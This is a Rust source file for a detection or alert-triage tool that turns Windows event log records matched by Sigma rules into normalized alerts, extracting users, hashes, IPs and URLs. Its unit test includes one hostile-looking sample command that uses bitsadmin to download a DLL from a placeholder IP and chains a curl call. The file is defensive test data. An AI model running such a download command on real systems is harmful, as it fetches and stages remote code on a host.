//! Windows event log records matched by a Sigma rule.
//!
//! Two layouts are read: the evtx-to-JSON layout with `Event.System` and
//! `Event.EventData`, and the flat layout with `EventID`, `Channel` and the
//! event data fields at the top level. The Sigma rule travels in a `sigma`
//! or `rule` object, or in Hayabusa-style `RuleTitle` and `Level` keys.

use moat_runtime::model::{ObservableKind, Severity};
use serde_json::Value;
use time::OffsetDateTime;

use super::collect::ObservableSet;
use super::fields::{first_text, lookup, text};
use super::timestamp::occurred_at;
use super::{NormalizedAlert, key_part};

const USER_FIELDS: [&str; 9] = [
    "User",
    "SubjectUserName",
    "TargetUserName",
    "SourceUser",
    "TargetUser",
    "ParentUser",
    "UserName",
    "AccountName",
    "Detection User",
];

const IMAGE_FIELDS: [&str; 6] = [
    "Image",
    "ParentImage",
    "SourceImage",
    "TargetImage",
    "TargetFilename",
    "Process Name",
];

const IP_FIELDS: [&str; 3] = ["SourceIp", "DestinationIp", "IpAddress"];

const COMMAND_LINE_FIELDS: [&str; 2] = ["CommandLine", "ParentCommandLine"];

/// Windows events carry an `EventID` with `Channel`, `Provider_Name` or
/// `Computer`, either under `Event.System` or at the top level.
pub fn matches(record: &Value) -> bool {
    if lookup(record, "Event.System.EventID").is_some() {
        return true;
    }
    let has_origin = ["Channel", "Provider_Name", "Computer"]
        .iter()
        .any(|key| record.get(key).is_some());
    record.get("EventID").is_some() && has_origin
}

pub fn normalize(record: &Value, received_at: OffsetDateTime) -> NormalizedAlert {
    let layout = Layout::of(record);
    let observables = collect_observables(&layout);
    let event_id = layout.system_text("EventID");
    let computer = layout.system_text("Computer");
    let rule_title = first_text(
        record,
        &["sigma.title", "rule.title", "rule.name", "RuleTitle"],
    );

    let title = rule_title.clone().unwrap_or_else(|| {
        format!(
            "Windows event {} on {}",
            key_part(event_id.as_deref()),
            key_part(computer.as_deref())
        )
    });
    let rule_key = first_text(record, &["sigma.id", "rule.id", "RuleID"])
        .or(rule_title)
        .or(event_id);
    let host = observables.value_from(&layout.system_path("Computer"), ObservableKind::Hostname);
    let dedup_key = format!("sigma:{}:{}", key_part(rule_key.as_deref()), key_part(host));

    NormalizedAlert {
        source: "sigma".to_string(),
        title,
        severity: severity(record),
        occurred_at: occurred_at(record, &layout.time_paths(), received_at),
        dedup_key,
        source_ref: source_ref(&layout),
        observables: observables.into_vec(),
        triggerable: true,
        not_triggered_reason: None,
    }
}

/// Maps the Sigma rule level to a severity, medium when the record does
/// not name one.
fn severity(record: &Value) -> Severity {
    let Some(level) = first_text(record, &["sigma.level", "rule.level", "Level"]) else {
        return Severity::Medium;
    };
    match level.trim().to_ascii_lowercase().as_str() {
        "informational" | "info" => Severity::Info,
        "low" => Severity::Low,
        "high" => Severity::High,
        "critical" | "crit" => Severity::Critical,
        _ => Severity::Medium,
    }
}

/// Identifies the event by computer, channel and event record id, because
/// record ids are counted per channel on each computer.
fn source_ref(layout: &Layout<'_>) -> Option<String> {
    let record_id = layout.system_text("EventRecordID")?;
    let computer = layout.system_text("Computer").unwrap_or_default();
    let channel = layout.system_text("Channel").unwrap_or_default();
    Some(format!("{computer}:{channel}:{record_id}"))
}

/// Path prefixes of the system and event data fields of a record.
struct Layout<'a> {
    record: &'a Value,
    system_prefix: &'static str,
    data_prefix: &'static str,
}

impl<'a> Layout<'a> {
    fn of(record: &'a Value) -> Self {
        let nested = lookup(record, "Event.System").is_some();
        let data_prefix = match (nested, record.get("EventData").is_some()) {
            (true, _) => "Event.EventData.",
            (false, true) => "EventData.",
            (false, false) => "",
        };
        let system_prefix = if nested { "Event.System." } else { "" };
        Layout {
            record,
            system_prefix,
            data_prefix,
        }
    }

    fn system_path(&self, field: &str) -> String {
        format!("{}{field}", self.system_prefix)
    }

    fn data_path(&self, field: &str) -> String {
        format!("{}{field}", self.data_prefix)
    }

    fn system_text(&self, field: &str) -> Option<String> {
        text(self.record, &self.system_path(field))
    }

    fn time_paths(&self) -> Vec<&'static str> {
        if self.system_prefix.is_empty() {
            vec![
                "TimeCreated.#attributes.SystemTime",
                "TimeCreated",
                "SystemTime",
                "UtcTime",
                "@timestamp",
            ]
        } else {
            vec![
                "Event.System.TimeCreated.#attributes.SystemTime",
                "Event.EventData.UtcTime",
            ]
        }
    }
}

fn collect_observables(layout: &Layout<'_>) -> ObservableSet {
    let record = layout.record;
    let mut set = ObservableSet::default();
    set.add_field_as(
        record,
        &layout.system_path("Computer"),
        ObservableKind::Hostname,
    );

    for field in USER_FIELDS {
        set.add_field_as(record, &layout.data_path(field), ObservableKind::User);
    }
    for field in IMAGE_FIELDS {
        set.add_field(
            record,
            &layout.data_path(field),
            ObservableSet::add_file_path,
        );
    }
    set.add_field(record, &layout.data_path("Path"), add_defender_path);
    set.add_field(record, &layout.data_path("Hashes"), add_hashes);
    for field in IP_FIELDS {
        set.add_field(record, &layout.data_path(field), ObservableSet::add_ip);
    }
    set.add_field_as(
        record,
        &layout.data_path("QueryName"),
        ObservableKind::Domain,
    );
    for field in COMMAND_LINE_FIELDS {
        set.add_field(record, &layout.data_path(field), add_command_line_urls);
    }
    set
}

/// Adds the file named by a Defender `Path` such as `file:_C:\dir\a.exe`.
fn add_defender_path(set: &mut ObservableSet, field: &str, path: &str) {
    let Some(file_path) = path.strip_prefix("file:_") else {
        return;
    };
    set.add_file_path(field, file_path);
}

/// Splits a Sysmon `Hashes` value such as `MD5=…,SHA256=…,IMPHASH=…`.
/// `IMPHASH` is skipped, because it hashes an import table, not a file.
fn add_hashes(set: &mut ObservableSet, field: &str, hashes: &str) {
    for pair in hashes.split(',') {
        let Some((algorithm, value)) = pair.split_once('=') else {
            continue;
        };
        let kind = match algorithm.trim().to_ascii_uppercase().as_str() {
            "MD5" => ObservableKind::Md5,
            "SHA1" => ObservableKind::Sha1,
            "SHA256" => ObservableKind::Sha256,
            _ => continue,
        };
        set.add(kind, field, value);
    }
}

fn add_command_line_urls(set: &mut ObservableSet, field: &str, command_line: &str) {
    for url in scan_urls(command_line) {
        set.add(ObservableKind::Url, field, url);
    }
}

/// Finds `http://` and `https://` URLs in free text. A URL ends at
/// whitespace, a quote, or a bracket that cannot end a URL in a command line.
pub fn scan_urls(text: &str) -> Vec<&str> {
    let lower = text.to_ascii_lowercase();
    let mut urls = Vec::new();
    let mut search = 0;

    while let Some(found) = find_scheme(&lower[search..]) {
        let start = search + found;
        let length = text[start..]
            .find(|c: char| {
                c.is_whitespace() || matches!(c, '"' | '\'' | '<' | '>' | '`' | '|' | '^')
            })
            .unwrap_or(text.len() - start);
        let candidate = text[start..start + length].trim_end_matches(['.', ',', ';', ')']);
        urls.push(candidate);
        search = start + length.max(1);
    }
    urls
}

fn find_scheme(text: &str) -> Option<usize> {
    let http = text.find("http://");
    let https = text.find("https://");
    match (http, https) {
        (Some(a), Some(b)) => Some(a.min(b)),
        (a, b) => a.or(b),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use serde_json::json;

    #[test]
    fn urls_found_in_command_line() {
        let command = "bitsadmin /transfer j /download HTTPS://192.0.2.8/calc.dll C:\\x.dll & curl \"http://a.example/p?q=1\"";
        assert_eq!(
            scan_urls(command),
            vec!["HTTPS://192.0.2.8/calc.dll", "http://a.example/p?q=1"]
        );
        assert!(scan_urls("no links here").is_empty());
    }

    #[test]
    fn flat_layout_with_rule_fields() {
        let record = json!({
            "EventID": 4625,
            "Channel": "Security",
            "Computer": "DC01.corp.example",
            "TargetUserName": "svc-backup",
            "IpAddress": "198.51.100.77",
            "RuleTitle": "Failed Logon From Public IP",
            "Level": "high",
            "TimeCreated": "2024-05-01T09:30:00Z"
        });
        assert!(matches(&record));
        let alert = normalize(&record, OffsetDateTime::UNIX_EPOCH);
        assert_eq!(alert.title, "Failed Logon From Public IP");
        assert_eq!(alert.severity, Severity::High);
        assert_eq!(
            alert.dedup_key,
            "sigma:Failed Logon From Public IP:dc01.corp.example"
        );
        assert_eq!(alert.occurred_at, "2024-05-01T09:30:00Z");
        let pairs: Vec<(ObservableKind, &str)> = alert
            .observables
            .iter()
            .map(|o| (o.kind, o.value.as_str()))
            .collect();
        assert!(pairs.contains(&(ObservableKind::User, "svc-backup")));
        assert!(pairs.contains(&(ObservableKind::Ipv4, "198.51.100.77")));
    }

    #[test]
    fn level_words() {
        let cases = [
            ("informational", Severity::Info),
            ("low", Severity::Low),
            ("medium", Severity::Medium),
            ("high", Severity::High),
            ("critical", Severity::Critical),
        ];
        for (level, expected) in cases {
            assert_eq!(
                severity(&json!({"sigma": {"level": level}})),
                expected,
                "{level}"
            );
        }
        assert_eq!(severity(&json!({})), Severity::Medium);
    }
}
